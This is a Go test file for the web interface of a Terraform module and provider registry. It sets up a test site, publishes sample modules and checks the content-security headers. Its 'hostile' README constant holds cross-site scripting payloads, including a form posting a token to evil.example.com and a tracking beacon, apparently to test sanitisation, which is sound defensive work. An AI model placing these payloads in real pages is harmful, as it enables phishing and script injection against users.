// SPDX-License-Identifier: Apache-2.0

package web_test

import (
	"bytes"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/seed-141914ff/okara/internal/access"
	"github.com/seed-141914ff/okara/internal/addr"
	"github.com/seed-141914ff/okara/internal/catalog"
	"github.com/seed-141914ff/okara/internal/depot"
	"github.com/seed-141914ff/okara/internal/depottest"
	"github.com/seed-141914ff/okara/internal/ocitest"
	"github.com/seed-141914ff/okara/internal/service"
	"github.com/seed-141914ff/okara/internal/signing"
	"github.com/seed-141914ff/okara/internal/web"
	"github.com/seed-141914ff/okara/oci"
)

// site is the pages over a registry of this test alone.
type site struct {
	*httptest.Server
	depot  *depot.Depot
	client *oci.Client
	layout addr.Layout
	count  *ocitest.Count // what the pages ask the registry
}

// newSite starts it for callers with the rights of anonymous.
func newSite(t *testing.T, anonymous ...access.Scope) *site {
	t.Helper()
	host := ocitest.New(t, ocitest.Quirks{})
	s := &site{layout: addr.Layout{Prefix: "acme"}, count: &ocitest.Count{}}
	s.client = mustClient(t, host, oci.Options{PlainHTTP: true})
	s.depot = depot.New(depot.Options{Client: s.client, Layout: s.layout})
	keys, err := access.NewKeyring([]access.Key{{Secret: bytes.Repeat([]byte("k"), 32)}})
	if err != nil {
		t.Fatal(err)
	}
	guard, err := access.New(access.Options{
		Policy: access.Policy{Anonymous: anonymous}, Keyring: keys, Sessions: &access.Sessions{Keyring: keys, Plain: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	pages, err := web.New(web.Options{
		Kit:      service.New(service.Options{Guard: guard, Logger: slog.New(slog.NewTextHandler(t.Output(), nil))}),
		Catalog:  catalog.New(catalog.Options{Client: mustClient(t, host, oci.Options{PlainHTTP: true, Transport: s.count}), Layout: s.layout}),
		Hostname: "okara.example.com", Version: "1.2.3",
	})
	if err != nil {
		t.Fatal(err)
	}
	s.Server = httptest.NewServer(pages)
	t.Cleanup(s.Close)
	return s
}

func mustClient(t *testing.T, host string, o oci.Options) *oci.Client {
	t.Helper()
	c, err := oci.New(host, o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func (s *site) module(t *testing.T, address, version string, files map[string]string) {
	t.Helper()
	tree := fstest.MapFS{}
	for name, text := range files {
		tree[name] = &fstest.MapFile{Data: []byte(text)}
	}
	if _, err := s.depot.PublishModule(t.Context(), tree, depottest.MustModule(t, address, version), depot.ModuleOptions{}); err != nil {
		t.Fatal(err)
	}
}

func (s *site) provider(t *testing.T, version string) {
	t.Helper()
	key := depottest.NewKey(t, signing.KeyOptions{Name: "okara test", Email: "test@example.com", ECC: true})
	dist := depottest.NewDist(t, "linux_amd64", "darwin_arm64")
	if _, err := s.depot.PublishProvider(t.Context(), dist, depottest.DNS(), depottest.MustVersion(t, version), depot.ProviderOptions{SignKey: key}); err != nil {
		t.Fatal(err)
	}
}

// get fetches a page, and whether it is what is said of all of them.
func (s *site) get(t *testing.T, path string) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := s.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(path, "/ui/assets/") && !strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'; script-src 'self'") {
		t.Errorf("GET %s has no policy of content: %v", path, resp.Header)
	}
	return resp.StatusCode, string(b)
}

// hostile is a readme of somebody who wants to get out of it.
const hostile = `# The title

<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">press</a>
<svg onload=alert(1)></svg><iframe src="https://evil.example.com"></iframe><style>body{display:none}</style>
<form action="https://evil.example.com"><input name=token><button>Log in</button></form>
<div style="position:fixed" class="top" id="main">over the page</div>
[link](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) ![beacon](https://evil.example.com/x.png)

## Use it

<details><summary>More</summary>

| a | b<br>c |
|---|---:|
| 1 | 2 |

</details>

` + "```hcl\nmodule \"x\" {\n  source = \"a/b/c\"\n}\n```\n\n- [x] done\n\n\u202eright to left\n"

// full publishes what every kind of page can be made of.
func (s *site) full(t *testing.T) {
	t.Helper()
	s.module(t, "net/vpc/aws", "1.0.0", map[string]string{"main.tf": `variable "cidr" { type = string }`})
	s.module(t, "net/vpc/aws", "1.10.0", map[string]string{
		"main.tf": `
terraform {
  required_version = ">= 1.6"
  required_providers { aws = { source = "hashicorp/aws", version = "~> 5.0" } }
}
variable "cidr" {
  type        = string
  description = "The range of addresses, such as <b>10.0.0.0/16</b>."
}
variable "subnets" {
  type = map(object({ cidr = string, zone = optional(string) }))
  default = {}
}
variable "large" {
  default = "` + strings.Repeat("word ", 4000) + `"
}
variable "secret" {
  type      = string
  default   = null
  sensitive = true
}
resource "aws_vpc" "this" { cidr_block = var.cidr }
data "aws_region" "here" {}
module "labels" {
  source  = "okara.example.com/net/labels/null"
  version = "1.0.0"
}
output "id" {
  description = "Of the network."
  value       = aws_vpc.this.id
}
output "password" {
  value     = var.secret
  sensitive = true
}
`,
		"README.md": hostile, "modules/subnet/main.tf": `variable "zone" {}`, "examples/simple/main.tf": `module "x" { source = "../.." }`, "LICENSE": "MIT License\n",
	})
	s.module(t, "net/vpc/aws", "2.0.0-rc.1", map[string]string{"main.tf": `variable "cidr" { type = string }`})
	s.module(t, "net/labels/null", "1.0.0", map[string]string{"main.tf": `output "x" { value = 1 }`})
	s.provider(t, "1.2.3")
}
